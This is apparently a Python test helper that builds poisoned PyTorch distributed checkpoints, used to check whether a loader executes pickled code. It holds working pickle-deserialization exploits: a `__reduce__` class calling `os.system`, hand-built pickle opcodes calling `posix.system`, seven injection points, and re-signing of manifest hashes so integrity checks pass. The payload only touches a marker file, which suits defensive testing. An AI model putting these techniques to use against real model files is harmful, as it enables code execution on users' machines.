"""Checkpoints made by somebody who wants their code to run, with manifests that agree with them."""

import hashlib
import io
import json
import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import BytesStorageMetadata, Metadata, MetadataIndex

EMBEDDING = "embedding.word_embeddings.weight"


class Bomb:
    """Creates a file when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def sign(checkpoint: Path) -> None:
    """Make the manifest agree with the files."""
    path = checkpoint / "manifest.json"
    manifest = json.loads(path.read_text())
    for name in manifest["files"]:
        content = (checkpoint / name).read_bytes()
        digest = hashlib.sha256(content).hexdigest()
        manifest["files"][name] = {"bytes": len(content), "sha256": digest}
    path.write_text(json.dumps(manifest))


def read_index(checkpoint: Path) -> Metadata:
    """The index, by the stock unpickler; only for checkpoints that a test wrote."""
    return pickle.loads((checkpoint / ".metadata").read_bytes())


def write_index(checkpoint: Path, index: Metadata) -> None:
    """Replace the index."""
    (checkpoint / ".metadata").write_bytes(pickle.dumps(index))


def append_record(checkpoint: Path, content: bytes) -> _StorageInfo:
    """Add a record to a shard."""
    shard = next(checkpoint.glob("*.distcp"))
    offset = shard.stat().st_size
    with shard.open("ab") as stream:
        stream.write(content)
    return _StorageInfo(shard.name, offset, len(content))


def saved(value: Any) -> bytes:
    """What torch.save writes of it."""
    stream = io.BytesIO()
    torch.save(value, stream)
    return stream.getvalue()


def calling(module: str, name: str, argument: str) -> bytes:
    """A pickle that calls module.name(argument), in front of what it is put before."""
    strings = [_text(module), _text(name)]
    return b"\x80\x04" + b"".join(strings) + b"\x93" + _text(argument) + b"\x85R0"


def dotted(checkpoint: Path, marker: Path) -> None:
    """A name that is resolved through a module of the format: its `os.system`."""
    path = checkpoint / ".metadata"
    call = calling("torch.distributed.checkpoint.metadata", "os.system", f"touch {marker}")
    path.write_bytes(call + path.read_bytes()[2:])


def undotted(checkpoint: Path, marker: Path) -> None:
    """The same without a detour."""
    path = checkpoint / ".metadata"
    path.write_bytes(calling("posix", "system", f"touch {marker}") + path.read_bytes()[2:])


def byte_records(checkpoint: Path, marker: Path) -> None:
    """Every record of bytes, and those that earlier versions wrote for each layer, are bombs."""
    index = read_index(checkpoint)
    bomb = append_record(checkpoint, saved([Bomb(marker)]))
    layer = "decoder.layers.self_attention.linear_proj._extra_state"
    for shard in ("shard_0_2", "shard_1_2"):
        index.state_dict_metadata[f"{layer}/{shard}"] = BytesStorageMetadata()
    for name, described in index.state_dict_metadata.items():
        if isinstance(described, BytesStorageMetadata):
            index.storage_data[MetadataIndex(name)] = bomb
    write_index(checkpoint, index)


def tensor_as_bytes(checkpoint: Path, marker: Path) -> None:
    """A tensor that every load asks for is declared as bytes."""
    index = read_index(checkpoint)
    declared = BytesStorageMetadata()
    declared.size = index.state_dict_metadata[EMBEDDING].size
    index.state_dict_metadata[EMBEDDING] = declared
    index.storage_data[MetadataIndex(EMBEDDING)] = append_record(checkpoint, saved([Bomb(marker)]))
    write_index(checkpoint, index)


def tensor_record(checkpoint: Path, marker: Path) -> None:
    """The record of a tensor holds a bomb."""
    index = read_index(checkpoint)
    bomb = append_record(checkpoint, saved(Bomb(marker)))
    for key in index.storage_data:
        if key.fqn == EMBEDDING:
            index.storage_data[key] = bomb
    write_index(checkpoint, index)


def common_state(checkpoint: Path, marker: Path) -> None:
    """The common state is a bomb."""
    (checkpoint / "common.pt").write_bytes(saved(Bomb(marker)))


def common_legacy(checkpoint: Path, marker: Path) -> None:
    """The common state is a bare pickle, torch's format before 1.6."""
    (checkpoint / "common.pt").write_bytes(pickle.dumps(Bomb(marker)))


ATTACKS: dict[str, Callable[[Path, Path], None]] = {
    attack.__name__: attack
    for attack in (
        *(dotted, undotted, byte_records, tensor_as_bytes),
        *(tensor_record, common_state, common_legacy),
    )
}


def poison(checkpoint: Path, attack: str, marker: Path) -> None:
    """Turn a checkpoint into one whose load creates `marker`, if anything it holds is executed."""
    ATTACKS[attack](checkpoint, marker)
    sign(checkpoint)


def _text(text: str) -> bytes:
    content = text.encode()
    return b"X" + len(content).to_bytes(4, "little") + content
